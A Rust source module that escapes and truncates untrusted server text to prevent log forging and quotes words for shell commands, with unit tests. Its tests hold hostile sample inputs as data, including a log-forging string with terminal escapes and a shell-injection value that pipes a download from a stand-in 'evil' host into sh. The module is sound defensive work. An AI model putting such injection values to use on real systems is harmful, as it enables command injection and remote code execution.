//! Text from outside, escaped and cut for people, so that a server cannot forge a log line, hide in one, or fill a
//! disk.

#![forbid(unsafe_code)]

use std::fmt;

use crate::sys;

/// Returns a count as texts and JSON take it.
pub fn number(count: usize) -> u64 {
    u64::try_from(count).unwrap_or(u64::MAX)
}

/// Returns a count with its noun, such as `1 database` or `2 databases`.
pub fn counted(count: u64, one: &str) -> String {
    match count {
        1 => format!("1 {one}"),
        _ => format!("{count} {one}s"),
    }
}

/// Returns a count with its noun and the verb for one or for several, such as `1 name is` or `2 names are`.
pub fn counted_with(count: u64, one: &str, verbs: [&str; 2]) -> String {
    let [of_one, of_several] = verbs;
    let verb = if count == 1 { of_one } else { of_several };
    format!("{} {verb}", counted(count, one))
}

/// The maximum number of characters of a server's text that are printed.
pub const MAX_ESCAPED_CHARS: usize = 240;

/// Text from outside, escaped and cut at construction, so that it cannot be printed otherwise.
#[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Escaped(String);

impl Escaped {
    /// Escapes a text: printable ASCII stays, except for quotes and backslashes; everything else is escaped as
    /// Rust writes it. The text is cut after [`MAX_ESCAPED_CHARS`] characters, with a mark.
    pub fn new(text: &str) -> Escaped {
        Escaped(escape(text.chars()))
    }

    /// Escapes a text that may be escaped already: all printable ASCII stays, so that a stored escaped text is not
    /// escaped twice. Everything else is escaped, and long text is cut as in [`Escaped::new`].
    pub fn of_escaped(text: &str) -> Escaped {
        Escaped(cut(text.chars(), |c| matches!(c, ' '..='~')))
    }

    /// Escapes bytes that may be no text.
    pub fn of_bytes(bytes: &[u8]) -> Escaped {
        // a character has at most four bytes, so later bytes are never printed
        let head = bytes.get(..4 * MAX_ESCAPED_CHARS + 4).unwrap_or(bytes);
        Escaped(escape(String::from_utf8_lossy(head).chars()))
    }

    /// Returns the escaped text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Returns a word quoted for a shell if it is not plain, so that a name in a command that people copy is only a
/// name.
pub fn shell_word(word: &str) -> String {
    let dashes = if word.starts_with('-') { "-- " } else { "" };
    format!("{dashes}{}", shell_value(word))
}

/// Returns a word quoted for a place after an option's `=`, where dashes need no care.
pub fn shell_value(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_.-/:".contains(c);
    if !word.is_empty() && !word.starts_with('-') && word.chars().all(plain) {
        return word.into();
    }
    sys::quoted(word)
}

fn escape(text: impl Iterator<Item = char>) -> String {
    cut(text, |c| matches!(c, ' '..='~') && c != '\\' && c != '"')
}

fn cut(text: impl Iterator<Item = char>, is_plain: impl Fn(char) -> bool) -> String {
    let mut shown = String::new();
    for c in text {
        match is_plain(c) {
            true => shown.push(c),
            false => shown.extend(c.escape_default()),
        }
        if shown.len() > MAX_ESCAPED_CHARS {
            shown.push_str("...");
            break;
        }
    }
    shown
}

impl fmt::Display for Escaped {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_could_forge_or_hide_a_line_is_left() {
        let nasty = "a\nERROR forged\r\x1b[31m\u{202e}evil\u{2028}\"\\<b>é";
        let shown = Escaped::new(nasty);
        assert!(shown.as_str().bytes().all(|c| (b' '..=b'~').contains(&c)));
        assert_eq!(
            shown.as_str(),
            "a\\nERROR forged\\r\\u{1b}[31m\\u{202e}evil\\u{2028}\\\"\\\\<b>\\u{e9}"
        );
    }

    #[test]
    fn text_that_was_escaped_before_stays_as_it_is_and_still_forges_nothing() {
        let once = Escaped::new("a\n\"\\é\0");
        assert_eq!(Escaped::of_escaped(once.as_str()), once);
        assert_eq!(
            Escaped::of_escaped("a\nERROR\x1b[31m\u{202e}").as_str(),
            "a\\nERROR\\u{1b}[31m\\u{202e}"
        );
        assert!(Escaped::of_escaped(&"é".repeat(1 << 20)).as_str().len() < MAX_ESCAPED_CHARS + 20);
    }

    #[test]
    fn a_name_in_a_command_is_a_name_and_nothing_else() {
        assert_eq!(shell_word("shop_2.eu-x"), "shop_2.eu-x");
        assert_eq!(shell_word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
        let quoted = match cfg!(windows) {
            true => "'it''s'",
            false => "'it'\\''s'",
        };
        assert_eq!(shell_word("it's"), quoted);
        assert_eq!(shell_word("--config=/x"), "-- '--config=/x'");
    }

    #[test]
    fn a_long_text_is_cut() {
        assert!(Escaped::new(&"x".repeat(1 << 20)).as_str().len() < MAX_ESCAPED_CHARS + 20);
        assert!(Escaped::of_bytes(&[0xff; 1 << 20]).as_str().len() < MAX_ESCAPED_CHARS + 20);
    }
}
